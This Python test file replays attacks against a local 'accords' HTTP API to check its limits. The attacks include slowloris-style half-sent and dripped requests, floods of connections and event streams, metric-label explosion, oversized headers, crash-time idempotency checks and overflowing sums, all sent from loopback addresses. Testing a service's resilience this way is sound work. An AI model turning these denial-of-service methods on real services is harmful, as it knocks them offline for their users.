"""Every finding of issue 14, replayed as an attack.

Each attack gets a fresh `accords serve` on the backend's store (see
run.py), a prober on /healthz and an RSS sampler; it sends its traffic from
loopback addresses other than the prober's (127.0.0.2 and up), so the
per-client caps apply to the attacker and not to the prober, and records
every failed check through ctx.fail. Every request passes ctx.request's
common checks: no 5xx, every 4xx a problem+json object.
"""

from __future__ import annotations

import csv
import io
import ipaddress
import json
import random
import re
import selectors
import shutil
import socket
import subprocess
import threading
import time
from urllib.parse import quote
from concurrent.futures import ThreadPoolExecutor, wait
from dataclasses import dataclass, field
from decimal import ROUND_HALF_EVEN, Decimal
from pathlib import Path
from typing import Any, Callable

from harness import (
    ROOT,
    AttackAborted,
    Context,
    Outcome,
    Response,
    Server,
    TransportError,
    http_request,
    problem_defect,
    register_process,
    forget_process,
    free_port,
    listen_backlog,
    listen_overflows,
)

U64_MAX = "18446744073709551615"


class Skip(Exception):
    """The attack cannot run here (a tool is missing); reported, not failed."""


@dataclass
class Attack:
    id: str
    name: str
    run: Callable[[Context], None]
    quick_limit: float
    full_limit: float
    quick_size: str = ""
    full_size: str = ""
    server_env: dict[str, str] = field(default_factory=dict)
    setup: Callable[[Context], None] | None = None

    def title(self, quick: bool) -> str:
        size = self.quick_size if quick else self.full_size
        return f"{self.id} {self.name}" + (f" ({size})" if size else "")

    def limit(self, quick: bool) -> float:
        return self.quick_limit if quick else self.full_limit

    def env(self, suite) -> dict[str, str]:
        return dict(self.server_env)


# --- helpers -------------------------------------------------------------------------------


def addresses(first: int, count: int) -> list[str]:
    """Loopback source addresses 127.0.0.first .. first+count-1 (never the prober's)."""
    assert first >= 2 and first + count <= 250
    return [f"127.0.0.{first + i}" for i in range(count)]


def parallel(ctx: Context, jobs: list[Callable[[], Any]], workers: int) -> list[Any]:
    """Runs the jobs on `workers` threads until done or the time limit."""
    results: list[Any] = [None] * len(jobs)
    stop = threading.Event()

    def wrap(i: int, job: Callable[[], Any]):
        if stop.is_set():
            return
        try:
            results[i] = job()
        except AttackAborted:
            stop.set()
        except Exception as error:  # noqa: BLE001 - a broken job is a failed check
            ctx.fail(f"an attack thread failed: {type(error).__name__}: {error}", group=f"job {type(error).__name__}")

    with ThreadPoolExecutor(max_workers=workers) as pool:
        futures = [pool.submit(wrap, i, job) for i, job in enumerate(jobs)]
        wait(futures, timeout=max(1.0, ctx.remaining() + 5))
        stop.set()
        pool.shutdown(wait=True, cancel_futures=True)
    ctx.check_time()
    return results


def error_fields(response: Response | None) -> list[str]:
    if response is None:
        return []
    try:
        body = response.json()
    except ValueError:
        return []
    return [str(e.get("field", "")) for e in body.get("errors", []) if isinstance(e, dict)]


def expect_field(ctx: Context, response: Response | None, field_name: str, what: str) -> None:
    """A 422 (or 400) that names `field_name` among its errors."""
    if response is None or response.status not in (400, 422):
        return  # the status check already failed
    fields = error_fields(response)
    ctx.check(
        any(f == field_name or f.endswith("." + field_name) or f.startswith(field_name) for f in fields),
        f"{what}: the {response.status} does not name {field_name!r} (errors name {fields or 'nothing'}; {response.text(200)})",
    )


def unchanged(ctx: Context, before: dict, what: str) -> None:
    after = ctx.fingerprint()
    ctx.check(
        after == before,
        f"{what}: the store changed (change feed head {before['head']} → {after['head']}, digest {before['digest']} → {after['digest']})",
    )


def agreement(title: str, partner: str = "NZ", year: int = 2019, **extra: Any) -> dict:
    body = {
        "partner": partner,
        "title": title,
        "kind": "bilateral_security",
        "status": "signed",
        "signed_on": f"{year}-03-01",
        "term_years": 10,
        "pledges": [{"amount": "1000000.50", "currency": "EUR", "year_from": year, "year_to": year, "kind": "military"}],
        "sources": [{"url": "https://example.org/hostile", "title": "Announcement", "pledge_id": None}],
    }
    body.update(extra)
    return body


def parse_raw(data: bytes) -> Response | None:
    """An HTTP answer read off a raw socket, or None when it is not one."""
    head, sep, rest = data.partition(b"\r\n\r\n")
    if not sep:
        return None
    lines = head.decode("latin-1").split("\r\n")
    match = re.match(r"HTTP/1\.[01] (\d{3}) ?(.*)", lines[0])
    if not match:
        return None
    headers = []
    for line in lines[1:]:
        if ":" in line:
            k, v = line.split(":", 1)
            headers.append((k.strip(), v.strip()))
    response = Response(int(match.group(1)), match.group(2), headers, b"", 0.0)
    length = response.header("content-length")
    response.body = rest[: int(length)] if length and length.isdigit() else rest
    return response


def read_head(sock: socket.socket, timeout: float) -> tuple[Response | None, str]:
    """Reads an answer's head (and its body when it has a length) within
    `timeout`; (answer, '') or (None, why there is none)."""
    deadline = time.monotonic() + timeout
    data = b""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return None, "timeout"
        sock.settimeout(left)
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            return None, "timeout"
        except ConnectionResetError:
            return parse_raw(data), "reset" if not data else ""
        except OSError as error:
            return None, type(error).__name__
        if not chunk:
            response = parse_raw(data)
            return response, "" if response else ("closed" if not data else f"garbage {data[:40]!r}")
        data += chunk
        head, sep, rest = data.partition(b"\r\n\r\n")
        if sep:
            response = parse_raw(data)
            if response is None:
                return None, f"garbage {data[:40]!r}"
            length = response.header("content-length")
            if not (length and length.isdigit()) or len(rest) >= int(length):
                return response, ""


def wait_closed(sock: socket.socket, limit: float) -> tuple[bool, float, bytes]:
    """Reads until the server closes the connection or `limit` s pass:
    (closed, seconds waited, bytes read)."""
    started = time.monotonic()
    data = b""
    while True:
        left = limit - (time.monotonic() - started)
        if left <= 0:
            return False, time.monotonic() - started, data
        sock.settimeout(min(left, 1.0))
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            return True, time.monotonic() - started, data
        if not chunk:
            return True, time.monotonic() - started, data
        data += chunk


def check_refusal(ctx: Context, response: Response, what: str, allowed: tuple[int, ...] = (429, 503)) -> None:
    """A refusal of a cap: 429 or 503, problem+json, Retry-After."""
    ctx.check(response.status in allowed, f"{what}: refused with {response.status}, expected one of {allowed}", group=f"refusal status {what}")
    defect = problem_defect(response)
    ctx.check(not defect, f"{what}: the {response.status} refusal is not problem+json: {defect}", group=f"refusal problem {what}")
    ctx.check(bool(response.header("retry-after")), f"{what}: the {response.status} refusal has no Retry-After", group=f"refusal retry {what}")


def connect(ctx: Context, source: str, timeout: float = 3.0) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    try:
        sock.bind((source, 0))
        sock.connect(("127.0.0.1", ctx.server.port))
    except BaseException:
        sock.close()
        raise
    ctx.track(sock)
    return sock


# --- 1. unbounded metric labels --------------------------------------------------------------------


def metric_labels(ctx: Context) -> None:
    n = 1000 if ctx.quick else 4000
    before = ctx.request("GET", "/metrics", source="127.0.0.254", expect=200)
    sources = addresses(2, 8)

    def job(i: int):
        method = f"M{i:07d}"
        if i % 3 == 0:
            # Unmatched routes too: a label per path would grow as fast.
            return ctx.request("GET", f"/hostile/{i}/x", source=sources[i % 8], timeout=10, expect=404, label="GET /hostile/{n}", record=False)
        target = "/v1/agreements" if i % 3 == 1 else "/healthz"
        return ctx.request(method, target, source=sources[i % 8], timeout=10, expect=(400, 401, 405),
                           label=f"{method[:2]}… {target}", record=False)

    parallel(ctx, [lambda i=i: job(i) for i in range(n)], workers=8)
    started = time.monotonic()
    after = ctx.request("GET", "/metrics", source="127.0.0.254", expect=200, timeout=30)
    render = time.monotonic() - started
    if before is None or after is None:
        return
    text = after.body.decode("utf-8", "replace")
    grew = len(after.body) - len(before.body)
    series_before = sum(1 for line in before.body.decode().splitlines() if line and not line.startswith("#"))
    series_after = sum(1 for line in text.splitlines() if line and not line.startswith("#"))
    ctx.note(f"/metrics: {len(before.body)} → {len(after.body)} bytes, {series_before} → {series_after} series, rendered in {render * 1000:.0f} ms")
    ctx.check("M0000" not in text, "/metrics holds a series labelled with a made-up method (M0000…)")
    ctx.check("/hostile/" not in text, "/metrics holds a series labelled with an unmatched path (/hostile/…)")
    ctx.check(grew < 64 * 1024, f"/metrics grew by {grew} bytes after {n} requests with made-up methods and paths (bound 64 KiB)")
    ctx.check(series_after - series_before < 300, f"/metrics gained {series_after - series_before} series (bound 300)")
    ctx.check(render < 0.5, f"/metrics took {render:.2f} s to render (bound 0.5 s)")


# --- 2. fuzzy matching on unbounded input -----------------------------------------------------------


def fuzzy_matching(ctx: Context) -> None:
    rng = random.Random(14)
    long = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(60_000))
    many = ",".join(f"x{i}" for i in range(8000))
    words = "+".join(f"w{i}" for i in range(8000))
    targets = [
        f"/v1/agreements?partner={long}",
        f"/v1/partners/{long}",
        f"/v1/partners/{long}/agreements",
        f"/v1/changes?partner={long}",
        f"/v1/stats/pledges?group_by=partner&partner={long}",
        f"/v1/stats/agreements?group_by=year&partner={long}",
        f"/v1/timeline?partner={long}",
        f"/v1/agreements?partner={many}",
        f"/v1/stats/pledges?group_by=partner&partner={many}",
        f"/v1/changes?partner={many}",
        f"/v1/agreements?area={long}",
        f"/v1/areas/{long}",
        f"/v1/agreements?area={many}",
        f"/v1/agreements?q={words}",
        f"/v1/agreements?status={many}",
        f"/v1/agreements?currency={many}",
        f"/v1/rates?currency={many}",
        f"/v1/history?id={long}",
    ]
    workers = 4 if ctx.quick else 8
    duration = 6.0 if ctx.quick else 20.0
    sources = addresses(2, workers)
    slowest: dict[str, float] = {}
    lock = threading.Lock()
    end = time.monotonic() + duration

    def worker(w: int):
        i = w
        while time.monotonic() < end:
            target = targets[i % len(targets)]
            label = "GET " + re.sub(r"[a-z]{100,}|(?:x\d+,){100,}x\d+|(?:w\d+\+){100,}w\d+", "<long>", target)
            r = ctx.request("GET", target, source=sources[w], timeout=15, expect=(400, 404, 414), label=label)
            if r is not None:
                with lock:
                    slowest[label] = max(slowest.get(label, 0.0), r.elapsed)
            i += workers

    parallel(ctx, [lambda w=w: worker(w) for w in range(workers)], workers=workers)
    ranked = sorted(slowest.items(), key=lambda kv: -kv[1])
    ctx.note("slowest answers: " + ", ".join(f"{label} {seconds * 1000:.0f} ms" for label, seconds in ranked[:4]))
    for label, seconds in ranked:
        ctx.check(seconds < 1.0, f"{label} took {seconds:.2f} s to refuse (bound 1 s)")
    # What must still work:
    r = ctx.request("GET", "/v1/agreements?partner=japan&fields=id", source="127.0.0.254", expect=200)
    ctx.check(r is not None and r.status == 200 and b"ua-jp-2024" in r.body, "GET /v1/agreements?partner=japan no longer finds ua-jp-2024")
    r = ctx.request("GET", "/v1/partners/japn", source="127.0.0.254", expect=404)
    ctx.check(r is not None and b"closest_matches" in r.body and b'"JP"' in r.body,
              "GET /v1/partners/japn no longer suggests JP in closest_matches")


# --- 3. connections and timeouts -----------------------------------------------------------------


def caps(ctx: Context) -> tuple[int, int, int]:
    """(connections per client, header timeout s, event streams per client) of the server under attack."""
    return (ctx.setting("ACCORDS_CONNECTIONS_PER_CLIENT", 64), ctx.setting("ACCORDS_HEADER_TIMEOUT_SECS", 10),
            ctx.setting("ACCORDS_EVENT_STREAMS_PER_CLIENT", 8))


def classify_open(sockets: list[tuple[socket.socket, str, float]]):
    """Splits sockets into silent (held by the server), answered and closed."""
    held, answered, closed = [], [], []
    for entry in sockets:
        sock = entry[0]
        data = b""
        state = "held"
        sock.setblocking(False)
        while True:
            try:
                chunk = sock.recv(65536)
            except BlockingIOError:
                break
            except OSError:
                state = "closed"
                break
            if not chunk:
                state = "closed"
                break
            data += chunk
        sock.setblocking(True)
        if data:
            answered.append((entry, parse_raw(data), data))
        elif state == "held":
            held.append(entry)
        else:
            closed.append(entry)
    return held, answered, closed


def half_sent(ctx: Context) -> None:
    PER_CLIENT, HEADER_TIMEOUT, _ = caps(ctx)
    n = 600 if ctx.quick else 2000
    sources = addresses(20, 4)
    sockets: list[tuple[socket.socket, str, float]] = []
    failed_connects: dict[str, int] = {}
    overflows = listen_overflows()
    opening = time.monotonic()
    slowest_connect = 0.0
    for i in range(n):
        ctx.check_time()
        source = sources[i % len(sources)]
        began = time.monotonic()
        try:
            sock = connect(ctx, source, timeout=3)
            slowest_connect = max(slowest_connect, time.monotonic() - began)
            sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: ")
        except OSError as error:
            kind = type(error).__name__
            failed_connects[kind] = failed_connects.get(kind, 0) + 1
            continue
        sockets.append((sock, source, time.monotonic()))
    opened_in = time.monotonic() - opening
    check_backlog(ctx, overflows, f"{n} connections opened in a burst")
    ctx.note(f"opened {len(sockets)} connections in {opened_in:.1f} s; the slowest connect took {slowest_connect * 1000:.0f} ms"
             + (" (a SYN was retransmitted: the listen backlog overflowed)" if slowest_connect >= 0.9 else ""))
    time.sleep(2.0)
    held, answered, closed = classify_open(sockets)
    statuses: dict[int, int] = {}
    for _entry, response, raw in answered:
        if response is None:
            ctx.fail(f"a refused half-sent connection got something that is not HTTP: {raw[:60]!r}", group="3a garbage")
            continue
        statuses[response.status] = statuses.get(response.status, 0) + 1
        check_refusal(ctx, response, "a connection over the cap")
    ctx.note(f"{n} half-sent requests from {len(sources)} addresses: {len(held)} held open, "
             f"{len(answered)} refused with an answer {statuses}, {len(closed)} closed silently, connect errors {failed_connects}")
    ctx.check(len(held) <= PER_CLIENT * len(sources),
              f"{len(held)} half-sent connections held open from {len(sources)} addresses; the per-client cap allows {PER_CLIENT * len(sources)}")
    ctx.check(len(held) > 0 or opened_in + 2 > HEADER_TIMEOUT,
              f"no half-sent connection was held at all (is the server accepting?); opened in {opened_in:.1f} s")
    # The header-read timeout: every held connection is closed within it (+3 s).
    still_open = []
    for sock, source, opened in held:
        left = opened + HEADER_TIMEOUT + 3 - time.monotonic()
        closed_now, _, data = wait_closed(sock, max(0.05, left))
        if not closed_now:
            still_open.append(source)
        elif data:
            response = parse_raw(data)
            if response is not None and response.status >= 400:
                defect = problem_defect(response)
                ctx.check(not defect, f"the header-timeout answer {response.status} is not problem+json: {defect}", group="3a timeout problem")
        ctx.untrack(sock)
    ctx.check(not still_open,
              f"{len(still_open)} half-sent connections still open {HEADER_TIMEOUT + 3} s after they were opened (header timeout {HEADER_TIMEOUT} s)")


def check_backlog(ctx: Context, before: int | None, what: str) -> None:
    """No connection was dropped for a full listen queue: a dropped SYN costs
    a legitimate client (the prober) a second or more."""
    after = listen_overflows()
    if before is None or after is None:
        return
    backlog = listen_backlog(ctx.server.port)
    ctx.check(after == before,
              f"{what}: the kernel dropped {after - before} connection attempts for a full listen queue "
              f"(TcpExt ListenOverflows; the listening socket's backlog is {backlog}); each dropped SYN is retried "
              f"after 1 s, by the attacker and by legitimate clients alike")


def open_stream(ctx: Context, source: str, target: str = "/v1/events") -> tuple[socket.socket | None, Response | None, str]:
    try:
        sock = connect(ctx, source, timeout=3)
        sock.sendall(f"GET {target} HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\n\r\n".encode())
    except OSError as error:
        return None, None, type(error).__name__
    response, why = read_head(sock, 3.0)
    return sock, response, why


def event_streams(ctx: Context) -> None:
    _, _, STREAMS_PER_CLIENT = caps(ctx)
    n = 300 if ctx.quick else 1100
    sources = addresses(30, 6)
    accepted: list[socket.socket] = []
    refused: dict[int, int] = {}
    no_answer: dict[str, int] = {}
    overflows = listen_overflows()
    for i in range(n):
        ctx.check_time()
        source = sources[i % len(sources)]
        sock, response, why = open_stream(ctx, source)
        if response is None:
            no_answer[why] = no_answer.get(why, 0) + 1
            if sock is not None:
                ctx.untrack(sock)
            continue
        ctx.observe("GET", "/v1/events", response, "GET /v1/events", allow_5xx=(503,))
        if response.status == 200:
            accepted.append(sock)
        else:
            refused[response.status] = refused.get(response.status, 0) + 1
            check_refusal(ctx, response, "an event stream over the cap")
            # The attacker keeps the connection open (keep-alive) to hold it.
    check_backlog(ctx, overflows, f"{n} event streams opened in a burst")
    ctx.note(f"{n} event streams from {len(sources)} addresses: {len(accepted)} accepted, refused {refused}, no answer {no_answer}")
    ctx.check(len(accepted) <= STREAMS_PER_CLIENT * len(sources),
              f"{len(accepted)} event streams accepted from {len(sources)} addresses; the per-client cap allows {STREAMS_PER_CLIENT * len(sources)}")
    ctx.check(len(accepted) > 0, "no event stream was accepted at all")
    bad = {k: v for k, v in no_answer.items() if k not in ("closed", "reset")}
    ctx.check(not bad, f"event streams that got no answer at all: {bad}")
    time.sleep(3.0 if ctx.quick else 8.0)  # held while the prober runs
    ctx.close_all()
    released_after = wait_for_stream(ctx, sources[0], limit=25.0)
    ctx.check(released_after is not None,
              f"{sources[0]} still cannot open an event stream 25 s after closing all of its streams (slots not released)")
    if released_after is not None:
        ctx.note(f"a closed stream's slot came back after {released_after:.1f} s")


def wait_for_stream(ctx: Context, source: str, limit: float) -> float | None:
    started = time.monotonic()
    while time.monotonic() - started < limit:
        ctx.check_time()
        sock, response, _ = open_stream(ctx, source)
        if sock is not None:
            ctx.untrack(sock)
        if response is not None and response.status == 200:
            return time.monotonic() - started
        time.sleep(0.5)
    return None


def event_stream_total(ctx: Context) -> None:
    _, _, STREAMS_PER_CLIENT = caps(ctx)
    total = ctx.setting("ACCORDS_EVENT_STREAM_LIMIT", 256)
    sources = addresses(40, 6)
    accepted = 0
    refused: dict[int, int] = {}
    for i in range(len(sources) * STREAMS_PER_CLIENT):
        source = sources[i % len(sources)]
        sock, response, why = open_stream(ctx, source)
        if response is None:
            ctx.fail(f"an event stream got no answer ({why})", group="3c no answer")
            continue
        ctx.observe("GET", "/v1/events", response, "GET /v1/events", allow_5xx=(503,))
        if response.status == 200:
            accepted += 1
        else:
            refused[response.status] = refused.get(response.status, 0) + 1
            check_refusal(ctx, response, "an event stream over the total cap")
    ctx.note(f"{len(sources) * STREAMS_PER_CLIENT} streams against a total cap of {total}: {accepted} accepted, refused {refused}")
    ctx.check(accepted <= total, f"{accepted} event streams accepted; the total cap is {total}")
    ctx.check(refused.get(503, 0) > 0, f"no 503 once the total of {total} event streams was reached (refused: {refused})")
    ctx.close_all()
    released_after = wait_for_stream(ctx, sources[0], limit=25.0)
    ctx.check(released_after is not None, "no event stream could be opened 25 s after all were closed (total not released)")


def slow_clients(ctx: Context) -> None:
    _, HEADER_TIMEOUT, _ = caps(ctx)
    body_timeout = ctx.setting("ACCORDS_BODY_TIMEOUT_SECS", 30)
    before = ctx.fingerprint()
    results: dict[str, Any] = {}

    def stalled_body():
        sock = connect(ctx, "127.0.0.50", timeout=3)
        head = (f"POST /v1/agreements HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ctx.key}\r\n"
                "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"partner\": \"NZ\", ")
        sock.sendall(head.encode())
        started = time.monotonic()
        closed, waited, data = wait_closed(sock, body_timeout + 5)
        results["body"] = (closed, time.monotonic() - started, parse_raw(data) if data else None)

    def idle_keep_alive():
        sock = connect(ctx, "127.0.0.51", timeout=3)
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        response, _ = read_head(sock, 3)
        started = time.monotonic()
        closed, waited, data = wait_closed(sock, HEADER_TIMEOUT + 5)
        results["idle"] = (closed, time.monotonic() - started, response)

    def drip_headers():
        sock = connect(ctx, "127.0.0.52", timeout=3)
        started = time.monotonic()
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        closed = False
        while time.monotonic() - started < HEADER_TIMEOUT + 5:
            try:
                sock.sendall(b"X-Drip: a\r\n")
            except OSError:
                closed = True
                break
            done, _, _ = wait_closed(sock, 1.0)
            if done:
                closed = True
                break
        results["drip"] = (closed, time.monotonic() - started, None)

    threads = [threading.Thread(target=f, daemon=True) for f in (stalled_body, idle_keep_alive, drip_headers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(HEADER_TIMEOUT + 12)
    closed, waited, response = results.get("body", (False, 0, None))
    ctx.note(f"stalled body: closed={closed} after {waited:.1f} s, answer {response.status if response else None} {response.text(200) if response else ''}")
    ctx.check(closed and waited <= body_timeout + 3,
              f"a request body that stops arriving was not ended within {body_timeout} s (+3): closed={closed} after {waited:.1f} s")
    if response is not None:
        ctx.check(response.status == 408, f"a stalled body was answered {response.status} after {waited:.1f} s, expected 408: {response.text(200)}")
        defect = problem_defect(response) if response.status >= 400 else ""
        ctx.check(not defect, f"the stalled body's {response.status} is not problem+json: {defect}")
    closed, waited, _ = results.get("idle", (False, 0, None))
    ctx.note(f"idle keep-alive: closed={closed} after {waited:.1f} s")
    ctx.check(closed and waited <= HEADER_TIMEOUT + 3,
              f"an idle keep-alive connection was not closed within {HEADER_TIMEOUT} s (+3): closed={closed} after {waited:.1f} s")
    closed, waited, _ = results.get("drip", (False, 0, None))
    ctx.note(f"headers dripped one line a second: closed={closed} after {waited:.1f} s")
    ctx.check(closed and waited <= HEADER_TIMEOUT + 3,
              f"headers dripped a line a second were still read after {HEADER_TIMEOUT} s (+3): closed={closed} after {waited:.1f} s")
    unchanged(ctx, before, "a stalled POST body")


# --- 4. the render cache ----------------------------------------------------------------------


def render_cache(ctx: Context) -> None:
    # Quick: 500 × 300 KB = 150 MB of distinct keys, enough to pass the RSS
    # bound if the keys were kept uncounted.
    n = 500 if ctx.quick else 1000
    rng = random.Random(4)
    filler = ", ".join(f"application/x-{rng.getrandbits(64):016x}" for _ in range(300_000 // 35))[:300_000]
    # Small answers: a cache that counted only bodies would never reach its
    # budget, and would keep every 300 KB key.
    targets = ["/v1/areas?limit=1", "/v1/partners?limit=1", "/v1/agreements?limit=1&fields=id", "/v1/stats/agreements?group_by=status",
               "/v1/timeline?limit=1", "/v1/changes?since=0&limit=1", "/v1/agreements?partner=JP&fields=id,title"]
    sources = addresses(2, 4)

    def job(i: int):
        accept = f"application/json, text/x-hostile-{i};q=0.1, {filler}"
        target = targets[i % len(targets)]
        return ctx.request("GET", target, headers={"Accept": accept}, source=sources[i % 4], timeout=20,
                           expect=(200, 406), label=f"GET {target} with a distinct 300 KB Accept")

    parallel(ctx, [lambda i=i: job(i) for i in range(n)], workers=4)
    ctx.note(f"{n} GETs with distinct 300 KB Accept headers; RSS now {ctx.server.rss_mib() or 0:.1f} MiB")


# --- 5. idempotency across a crash -------------------------------------------------------------------


IDEMPOTENCY_PARTNERS = ["CL", "AR", "BR", "MX", "ZA", "KE", "SG", "MY", "TH", "PE"]
# A key whose first request died in a crash is "in progress" (409) until it
# is abandoned (IDEMPOTENCY_ABANDONED, 60 s); a client retries until then.
IDEMPOTENCY_ABANDONED = 60


def idempotency_crash(ctx: Context) -> None:
    n = 60 if ctx.quick else 200
    run = f"{ctx.backend}-{int(time.time())}"
    prefix = f"Hostile idempotency {run} #"
    sources = addresses(60, 8)
    requests = []
    for i in range(n):
        partner = IDEMPOTENCY_PARTNERS[i % len(IDEMPOTENCY_PARTNERS)]
        year = 1995 + i // len(IDEMPOTENCY_PARTNERS)
        body = agreement(f"{prefix}{i}", partner, year)
        body["pledges"] = [
            {"amount": f"{1000 + j}.25", "currency": "EUR", "year_from": year, "year_to": year, "kind": "military"} for j in range(4)
        ]
        requests.append((f"hostile-{run}-{i}", json.dumps(body)))
    first: list[Response | None] = [None] * n
    answered = [0]
    lock = threading.Lock()

    def send(i: int):
        key, body = requests[i]
        try:
            r = http_request(ctx.server.port, "POST", "/v1/agreements",
                             [("Authorization", f"Bearer {ctx.key}"), ("Content-Type", "application/json"), ("Idempotency-Key", key)],
                             body.encode(), source=sources[i % 8], timeout=20)
        except TransportError:
            return  # cut by the crash
        first[i] = r
        with lock:
            answered[0] += 1

    kill_at = max(3, int(n * 0.3))
    threads_done = threading.Event()

    def fire():
        with ThreadPoolExecutor(max_workers=8) as pool:
            list(pool.map(send, range(n)))
        threads_done.set()

    firing = threading.Thread(target=fire, daemon=True)
    firing.start()
    while answered[0] < kill_at and not threads_done.is_set() and ctx.remaining() > 0:
        time.sleep(0.001)
    ctx.prober.pause()
    ctx.server.kill()
    killed_after = answered[0]
    firing.join(timeout=30)
    ctx.server.start(ctx.server.env_overrides)
    ctx.prober.resume(ctx.server.port)
    for r in first:
        if r is not None:
            ctx.observe("POST", "/v1/agreements", r, "POST /v1/agreements (before the crash)", expect=201)
    ctx.note(f"kill -9 after {killed_after} of {n} answers; {sum(r is not None for r in first)} answered before the crash")

    crashed_at = time.monotonic()
    waited_409 = [0.0]

    def retry(i: int):
        key, body = requests[i]
        while True:
            r = ctx.request("POST", "/v1/agreements", body=body, key=True,
                            headers={"Content-Type": "application/json", "Idempotency-Key": key},
                            source=sources[i % 8], timeout=20, label="POST /v1/agreements (retry after the crash)",
                            expect=(201, 409))
            if r is None or r.status != 409:
                return r
            # In progress: the first request's reservation outlived the crash.
            waited = time.monotonic() - crashed_at
            with lock:
                waited_409[0] = max(waited_409[0], waited)
            if waited > IDEMPOTENCY_ABANDONED + 15:
                ctx.fail(f"request {i}: its retry still answers 409 (in progress) {waited:.0f} s after the crash: {r.text(160)}",
                         group="5 stuck 409")
                return r
            time.sleep(2.0)

    retried = parallel(ctx, [lambda i=i: retry(i) for i in range(n)], workers=max(8, n // 4))
    if waited_409[0]:
        ctx.note(f"some retries answered 409 (in progress) until {waited_409[0]:.0f} s after the crash")
    for i, (before, after) in enumerate(zip(first, retried)):
        if after is None or after.status != 201:
            continue
        if before is not None and before.status == 201:
            ctx.check(after.header("idempotent-replayed") == "true",
                      f"request {i} was answered 201 before the crash, but its retry was not a replay (no Idempotent-Replayed)",
                      group="5 not replayed")
            ctx.check(after.header("location") == before.header("location"),
                      f"request {i}: first answer {before.header('location')}, retry {after.header('location')}", group="5 location")
    # A third round: everything is a replay now.
    again = parallel(ctx, [lambda i=i: ctx.request("POST", "/v1/agreements", body=requests[i][1], key=True,
                                                     headers={"Content-Type": "application/json", "Idempotency-Key": requests[i][0]},
                                                     source=sources[i % 8], label="POST /v1/agreements (second retry)",
                                                     expect=201) for i in range(n)], workers=8)
    for i, r in enumerate(again):
        if r is not None and r.status == 201:
            ctx.check(r.header("idempotent-replayed") == "true", f"request {i}: the second retry was not a replay", group="5 second")
    # Count the agreements per title: exactly one each.
    counts: dict[str, list[str]] = {}
    cursor = None
    for _ in range(200):
        url = "/v1/agreements?fields=id,title&limit=500" + (f"&cursor={cursor}" if cursor else "")
        page = ctx.request("GET", url, source="127.0.0.254", expect=200)
        if page is None or page.status != 200:
            return
        data = page.json()
        for item in data["items"]:
            if item["title"].startswith(prefix):
                counts.setdefault(item["title"], []).append(item["id"])
        cursor = data.get("next_cursor")
        if not cursor:
            break
    twice = {t: ids for t, ids in counts.items() if len(ids) > 1}
    missing = [i for i in range(n) if f"{prefix}{i}" not in counts]
    last = [again[i] or retried[i] or first[i] for i in range(n)]
    lost = [i for i in missing if last[i] is not None and last[i].status == 201]
    failed = [i for i in missing if i not in lost]
    ctx.check(not twice, f"{len(twice)} agreements were created twice across the crash, e.g. {next(iter(twice.items()), None)}")
    ctx.check(not lost, f"{len(lost)} requests were answered 201 but no agreement with their title exists: "
                        + ", ".join(f"#{i} → {last[i].header('location')}" for i in lost[:5]))
    ctx.check(not failed, f"{len(failed)} requests never created their agreement (last answers: "
                          + ", ".join(f"#{i} {last[i].status if last[i] else 'none'}" for i in failed[:5]) + ")")
    ctx.note(f"{len(counts)} distinct agreements for {n} keyed requests")


# --- 6. overflowing sums -----------------------------------------------------------------------------


def chf_total(ctx: Context) -> Decimal | None:
    r = ctx.request("GET", "/v1/stats/pledges?group_by=partner&currency=CHF", source="127.0.0.254", expect=200)
    if r is None or r.status != 200:
        return None
    return sum((Decimal(item["total"]) for item in r.json()["items"] if item.get("currency") == "CHF"), Decimal(0))


def overflowing_sums(ctx: Context) -> None:
    big = "9999999999999999.99"
    base = chf_total(ctx)
    accepted = Decimal(0)
    created = []
    plans = [("LI", [big] * 9), ("MC", [big] * 9), ("SM", [big] * 9), ("AD", ["999999999999999999.99"])]
    for partner, amounts in plans:
        before = ctx.fingerprint()
        body = agreement(f"Hostile overflow {partner}", partner, 2024)
        body["pledges"] = [{"amount": a, "currency": "CHF", "year_from": 2024, "year_to": 2024, "kind": "financial"} for a in amounts]
        r = ctx.request("POST", "/v1/agreements", json_body=body, key=True, expect=(201, 422),
                        label=f"POST /v1/agreements ({len(amounts)} pledges of {amounts[0]} CHF)")
        if r is None:
            continue
        if r.status == 201:
            accepted += sum(Decimal(a) for a in amounts)
            created.append(r.json()["id"])
        else:
            unchanged(ctx, before, f"a refused overflowing agreement ({partner})")
    ctx.note(f"accepted {len(created)} of {len(plans)} agreements ({', '.join(created)}); CHF pledged in them: {accepted}")
    ctx.check(len(created) >= 1, "even the first agreement of nine large pledges was refused")
    # A CHF rate so that conversion sums the huge amounts too.
    ctx.request("PUT", "/v1/rates/CHF/2024-06-13", json_body={"rate": "0.9512"}, key=True, expect=(200, 201))
    reads = [
        "/v1/stats/pledges?group_by=partner", "/v1/stats/pledges?group_by=year", "/v1/stats/pledges?group_by=kind",
        "/v1/stats/pledges?group_by=partner,year", "/v1/stats/pledges?group_by=area", "/v1/stats/pledges?group_by=measure",
        "/v1/stats/pledges?group_by=partner&convert=EUR", "/v1/stats/pledges?group_by=year&convert=EUR",
        "/v1/stats/pledges?group_by=kind&convert=USD", "/v1/stats/agreements?group_by=year", "/v1/stats/agreements?group_by=partner",
        "/v1/timeline", "/v1/agreements?currency=CHF&min_amount=1", "/v1/agreements?convert=EUR&partner=LI,MC,SM,AD",
        "/v1/partners?limit=500", "/v1/agreements?format=csv", "/v1/agreements?format=csv&rows=pledges",
        "/v1/agreements?format=text", "/v1/checks",
    ] + [f"/v1/agreements/{id_}?convert=EUR" for id_ in created]
    for target in reads:
        ctx.request("GET", target, source="127.0.0.3", expect=200)
    after = chf_total(ctx)
    if base is not None and after is not None:
        ctx.check(after == base + accepted, f"the CHF total is {after}, expected {base + accepted} (exact)")
    r = ctx.request("GET", "/v1/stats/pledges?group_by=partner&convert=EUR&currency=CHF", source="127.0.0.3", expect=200)
